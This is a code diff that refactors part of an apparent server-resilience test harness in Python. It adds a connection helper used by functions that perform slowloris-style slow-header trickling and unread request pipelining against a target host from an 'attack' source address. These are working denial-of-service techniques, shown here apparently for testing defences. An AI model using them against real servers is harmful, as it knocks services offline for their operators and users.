@@ -182,16 +182,24 @@ def attacker_client(plan: AttackPlan, timeout: float) -> httpx.AsyncClient:
     )
 
 
+async def attack_connection(
+    plan: AttackPlan,
+) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+    """A connection from the attacker's address; None (after a second's pause) when the
+    server is not accepting."""
+    try:
+        return await asyncio.open_connection(HOST, plan.port, local_addr=(ATTACK_SOURCE, 0))
+    except OSError:
+        await asyncio.sleep(1)
+        return None
+
+
 async def slow_head(plan: AttackPlan, head: bytes, tally: AttackTally, until: float) -> None:
     """Trickle ``head`` a byte a second, forever; reopen whenever the server closes."""
     while time.monotonic() < until:
-        try:
-            reader, writer = await asyncio.open_connection(
-                HOST, plan.port, local_addr=(ATTACK_SOURCE, 0)
-            )
-        except OSError:
-            await asyncio.sleep(1)
+        if (streams := await attack_connection(plan)) is None:
             continue
+        reader, writer = streams
         tally.slow_opened += 1
         try:
             for byte in head * 1000:
@@ -215,13 +223,9 @@ async def unread_pipeline(
     """Write pipelined requests without reading a reply, up to the byte budget."""
     batch = request * 500
     while time.monotonic() < until:
-        try:
-            _reader, writer = await asyncio.open_connection(
-                HOST, plan.port, local_addr=(ATTACK_SOURCE, 0)
-            )
-        except OSError:
-            await asyncio.sleep(1)
+        if (streams := await attack_connection(plan)) is None:
             continue
+        _reader, writer = streams
         sent = 0
         try:
             while sent < plan.pipeline_budget and time.monotonic() < until:
